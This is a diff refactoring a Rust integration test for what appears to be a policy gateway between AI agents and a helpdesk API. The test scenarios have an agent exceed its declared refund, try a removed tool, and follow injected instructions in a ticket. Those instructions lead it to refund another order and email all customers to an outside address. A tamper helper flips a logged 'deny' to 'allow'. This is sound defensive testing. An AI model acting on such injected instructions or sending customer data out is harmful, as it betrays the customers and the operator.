@@ -35,23 +35,24 @@ fn refund_parameters() -> Value {
     json!({ "order_id": ORDER, "max_amount_cents": 5000 })
 }
 
-/// A call that must be refused with these words, and must not have reached the upstream.
-async fn refused(
-    stage: &Stage,
-    report: &mut Report,
-    agent: &Agent,
-    what: &str,
-    tool: &str,
+/// A call that must be refused.
+struct Attempt<'a> {
+    what: &'a str,
+    tool: &'a str,
     arguments: Value,
-    words: &[&str],
-) -> Result<(), Failure> {
+    /// What the refusal must mention.
+    words: &'a [&'a str],
+}
+
+/// Makes the attempt: it must be refused with these words, and must not reach the upstream.
+async fn refused(stage: &Stage, report: &mut Report, agent: &Agent, attempt: Attempt<'_>) -> Result<(), Failure> {
     let before = stage.helpdesk.received_calls().len();
-    let answer = call(agent, tool, arguments).await?;
+    let answer = call(agent, attempt.tool, attempt.arguments).await?;
     let reached = stage.helpdesk.received_calls().len() != before;
     let text = answer.text();
-    let good = !answer.is_good() && !reached && words.iter().all(|word| text.contains(word));
+    let good = !answer.is_good() && !reached && attempt.words.iter().all(|word| text.contains(word));
     let happened = if reached { format!("it REACHED the upstream: {text}") } else { text };
-    report.step(what, "refused, with the reason; the upstream never hears of it", &happened, good);
+    report.step(attempt.what, "refused, with the reason; the upstream never hears of it", &happened, good);
     Ok(())
 }
 
@@ -97,26 +98,20 @@ async fn well_behaved(stage: &Stage, report: &mut Report) -> Result<String, Fail
         if injected { "every call came with the upstream's own credential" } else { "a call came without it" },
         injected,
     );
-    refused(
-        stage,
-        report,
-        &agent,
-        "it tries another order",
-        "refund",
-        json!({ "order_id": "A-1002", "amount_cents": 100 }),
-        &[ORDER],
-    )
-    .await?;
-    refused(
-        stage,
-        report,
-        &agent,
-        "it tries more than it declared",
-        "refund",
-        json!({ "order_id": ORDER, "amount_cents": 900_000 }),
-        &["5000"],
-    )
-    .await?;
+    let attempt = Attempt {
+        what: "it tries another order",
+        tool: "refund",
+        arguments: json!({ "order_id": "A-1002", "amount_cents": 100 }),
+        words: &[ORDER],
+    };
+    refused(stage, report, &agent, attempt).await?;
+    let attempt = Attempt {
+        what: "it tries more than it declared",
+        tool: "refund",
+        arguments: json!({ "order_id": ORDER, "amount_cents": 900_000 }),
+        words: &["5000"],
+    };
+    refused(stage, report, &agent, attempt).await?;
     finished(stage, report, &agent).await?;
     Ok(agent.task())
 }
@@ -148,16 +143,13 @@ async fn talked_into(stage: &Stage, report: &mut Report) -> Result<(), Failure> 
         "allowed; from now on the task has read untrusted text",
         &ticket,
     );
-    refused(
-        stage,
-        report,
-        &agent,
-        "as the ticket says, it refunds A-1002",
-        "refund",
-        json!({ "order_id": "A-1002", "amount_cents": 68_900 }),
-        &[],
-    )
-    .await?;
+    let attempt = Attempt {
+        what: "as the ticket says, it refunds A-1002",
+        tool: "refund",
+        arguments: json!({ "order_id": "A-1002", "amount_cents": 68_900 }),
+        words: &[],
+    };
+    refused(stage, report, &agent, attempt).await?;
     let found = call(&agent, "search_customers", json!({ "query": "" })).await?;
     told(
         report,
@@ -166,16 +158,13 @@ async fn talked_into(stage: &Stage, report: &mut Report) -> Result<(), Failure> 
         &found,
     );
     let mail = json!({ "to": "archive@case-backup.example", "subject": "customers", "body": "all of them" });
-    refused(
-        stage,
-        report,
-        &agent,
-        "as the ticket says, it mails them to a stranger (its policy permits mail)",
-        "send_email",
-        mail,
-        &["no-exfiltration"],
-    )
-    .await?;
+    let attempt = Attempt {
+        what: "as the ticket says, it mails them to a stranger (its policy permits mail)",
+        tool: "send_email",
+        arguments: mail,
+        words: &["no-exfiltration"],
+    };
+    refused(stage, report, &agent, attempt).await?;
     let sent = stage.helpdesk.sent_emails().map(|sent| sent.len()).unwrap_or(usize::MAX);
     report.step("the outbox of the upstream", "empty", &format!("{sent} mails"), sent == 0);
     agent.end().await
@@ -264,16 +253,13 @@ async fn changed_tool(stage: &Stage, report: &mut Report) -> Result<(), Failure>
         &listed.join(", "),
         listed == ["get_order"],
     );
-    refused(
-        stage,
-        report,
-        &agent,
-        "it calls `refund` all the same",
-        "refund",
-        json!({ "order_id": ORDER, "amount_cents": 100 }),
-        &[],
-    )
-    .await?;
+    let attempt = Attempt {
+        what: "it calls `refund` all the same",
+        tool: "refund",
+        arguments: json!({ "order_id": ORDER, "amount_cents": 100 }),
+        words: &[],
+    };
+    refused(stage, report, &agent, attempt).await?;
     let diff = Operator::of(stage)?.ask(Method::GET, "/v1/upstreams/helpdesk/diff").await?;
     let changed = format!(
         "{} {}: {}",
@@ -374,14 +360,15 @@ fn verified(stage: &Stage, report: &mut Report) -> Result<(), Failure> {
     Ok(())
 }
 
-/// Rewrites the first `deny` of the copy to `allow` (and fills up, so that no length changes).
+/// Rewrites the first `deny` of each bundle of the copy (older partial bundles may lie beside the one that counts); no
+/// length changes.
 fn tampered(copy: &Path) -> std::io::Result<()> {
     for path in files(&copy.join("tile/entries"))? {
         let bytes = fs::read(&path)?;
         let (from, to) = (br#""outcome":"deny","#, br#""outcome":"allo","#);
         if let Some(at) = bytes.windows(from.len()).position(|window| window == from) {
             let changed: Vec<u8> = bytes.iter().take(at).chain(to).chain(bytes.iter().skip(at + from.len())).copied().collect();
-            return fs::write(path, changed);
+            fs::write(path, changed)?;
         }
     }
     Ok(())
@@ -401,7 +388,11 @@ fn copy_folder(from: &Path, to: &Path) -> std::io::Result<()> {
     for entry in fs::read_dir(from)? {
         let entry = entry?;
         let target = to.join(entry.file_name());
-        if entry.file_type()?.is_dir() { copy_folder(&entry.path(), &target)? } else { drop(fs::copy(entry.path(), target)?) }
+        if entry.file_type()?.is_dir() {
+            copy_folder(&entry.path(), &target)?;
+        } else {
+            fs::copy(entry.path(), target)?;
+        }
     }
     Ok(())
 }
